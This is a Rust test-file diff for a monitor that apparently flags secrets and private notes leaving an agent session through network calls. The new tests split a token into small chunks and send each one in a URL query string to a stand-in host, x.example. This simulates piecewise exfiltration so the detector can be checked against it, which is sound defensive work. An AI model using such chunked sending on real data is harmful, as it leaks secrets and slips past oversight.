@@ -207,8 +207,9 @@ fn parts_add_up() {
         let found = session.call("net", Sink::External, &serde_json::json!({"q": part}));
         steps.push(found.first().map(|f| f.confidence));
     }
-    // The first part holds six informative characters, the next two ten each: only the last makes it most of the token.
-    assert_eq!(steps, [None, None, None, Some(Confidence::Likely)]);
+    // The first part holds six informative characters, the next two ten each: with the second they are much of the token, and
+    // with the last the whole of it.
+    assert_eq!(steps, [None, Some(Confidence::Likely), Some(Confidence::Likely), Some(Confidence::Certain)]);
     // In one call, cut over several members and in a member's name.
     let (a, b) = token.split_at(20);
     for arguments in [serde_json::json!({"a": a, "b": b}), serde_json::json!([a, b]), serde_json::json!({(token): 1})] {
@@ -334,4 +335,42 @@ proptest! {
         let found = found(PRIVATE, &format!("{NOTE} token {}\n", token()), &text);
         prop_assert_eq!(found, []);
     }
+}
+
+/// The detectors that see something in calls that send one piece after another.
+fn in_pieces(label: CallLabel, entered: &str, pieces: &[&str]) -> Vec<String> {
+    let mut session = Session::new();
+    session.result("files", label, entered);
+    let mut out = Vec::new();
+    for (i, piece) in pieces.iter().enumerate() {
+        let url = format!("https://x.example/?i={i}&d={}", piece.replace(' ', "%20"));
+        for found in session.call("net", Sink::External, &serde_json::json!({"url": url, "to": "me"})) {
+            out.push(format!("{} {}", found.detector, found.evidence[1].transform.as_deref().unwrap_or_default()));
+        }
+    }
+    out
+}
+
+fn chunks(text: &str, length: usize) -> Vec<&str> {
+    (0..text.len()).step_by(length).map(|at| &text[at..text.len().min(at + length)]).collect()
+}
+
+#[test]
+fn chunks_too_short_to_be_known_add_up() {
+    let token = token();
+    for length in [1, 2, 3, 5, 7] {
+        let found = in_pieces(OPEN, &format!("token: {token}"), &chunks(&token, length));
+        assert!(found.contains(&"flow/secret split".to_owned()), "{length}: {found:?}");
+    }
+    for length in [7, 13, 24] {
+        let found = in_pieces(PRIVATE, NOTE, &chunks(NOTE, length));
+        assert!(found.iter().any(|f| f.starts_with("flow/private")), "{length}: {found:?}");
+    }
+    assert_eq!(in_pieces(OPEN, NOTE.get(15..).unwrap(), &chunks(NOTE, 13)), [""; 0], "ordinary text may leave");
+}
+
+#[test]
+fn going_through_a_list_is_no_split() {
+    let list = ["first-report.txt", "second-report.txt", "third-notes.txt", "fourth-draft.txt", "fifth-of-all.txt"];
+    assert_eq!(in_pieces(PRIVATE, &list.join("\n"), &list), [""; 0]);
 }
